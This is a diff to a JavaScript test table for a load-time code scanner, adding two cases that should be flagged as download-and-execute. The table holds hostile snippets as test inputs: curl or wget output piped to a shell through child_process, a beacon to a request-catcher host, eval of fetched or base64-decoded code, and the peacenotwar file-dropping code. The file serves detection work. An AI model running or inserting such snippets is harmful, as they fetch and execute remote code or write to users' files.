@@ -21,6 +21,8 @@ describe('readLoadJavaScript: findings at load', () => {
     ['a request-catcher host called at load', "require('https').get('https://abc123.oast.fun/ping');", ['beacon']],
     ['decoded text run as code', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());", ['decoded-eval']],
     ['a download piped to a shell', "require('child_process').exec('curl -s https://get.example/x.sh | sh');", ['download-exec']],
+    ['a download command line joined on after curl', "require('child_process').execSync('curl ' + u + ' | sh');", ['download-exec']],
+    ['wget named alone and started', "const cp = require('child_process');\nconst bin = 'wget';\ncp.spawn(bin, [u]);", ['download-exec']],
     ['downloaded text run as code, in the response callback', "const https = require('https');\nhttps.get('https://get.example/p.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => eval(d)); });", ['remote-eval']],
     ['a file dropped on the Desktop and OneDrive at load (peacenotwar 9.1.7)', "import fs from 'fs';\nimport { homedir } from 'os';\nvar Desktops = `${homedir}/Desktop/`;\nvar OneDrive = `${homedir}/OneDrive/`;\nfunction deliver(path, message) { try { fs.writeFile(path, message, function (err) {}); } catch (err) {} }\nif (!exists) { deliver(`${Desktops}WITH-LOVE.txt`, msg); deliver(`${OneDrive}WITH-LOVE.txt`, msg); }", ['user-files']],
     ['a Desktop file written only by an exported function nobody calls', "const fs = require('fs');\nconst os = require('os');\nexports.saveToDesktop = function (name, data) { fs.writeFileSync(os.homedir() + '/Desktop/' + name, data); };", []],
